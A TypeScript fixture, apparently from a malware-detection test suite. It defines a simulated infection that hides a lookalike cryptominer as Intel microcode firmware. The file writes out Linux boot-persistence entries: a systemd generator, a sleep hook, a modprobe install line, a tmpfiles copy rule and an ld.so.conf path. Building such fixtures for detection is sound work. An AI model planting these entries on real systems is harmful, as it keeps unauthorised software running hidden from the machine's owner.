import { type Infection, miner, minerWords } from '../host-part.ts'

const program = '/usr/lib/firmware/intel-ucode.bin'

/** Started before anybody looks: a generator, tmpfiles, a shutdown hook, modprobe, binfmt. */
export const bootTricks: Infection = {
  family: 'boot-tricks',
  known: false,
  title: 'A miner that the start of the system itself brings back',
  story: [
    'A generator of systemd and a hook at sleep start it; modprobe runs it in the place of a module.',
    'A line of tmpfiles copies it back at each boot.',
  ],
  items: [
    { kind: 'file', path: program, content: { lookalike: miner, words: `${minerWords}\nboot` }, mode: 0o755 },
    {
      kind: 'file',
      path: '/etc/systemd/system-generators/10-ucode',
      content: { text: `#!/bin/sh\n${program} -B &\n` },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/usr/lib/systemd/system-sleep/ucode',
      content: { text: `#!/bin/sh\n[ "$1" = post ] && ${program} -B\n` },
      mode: 0o755,
    },
    { kind: 'line', path: '/etc/modprobe.d/ucode.conf', text: `install ucode_dummy ${program} -B` },
    { kind: 'line', path: '/etc/tmpfiles.d/ucode.conf', text: `C /run/ucode 0755 root root - ${program}` },
    { kind: 'line', path: '/etc/ld.so.conf.d/00-ucode.conf', text: '/usr/lib/firmware/.lib' },
  ],
}
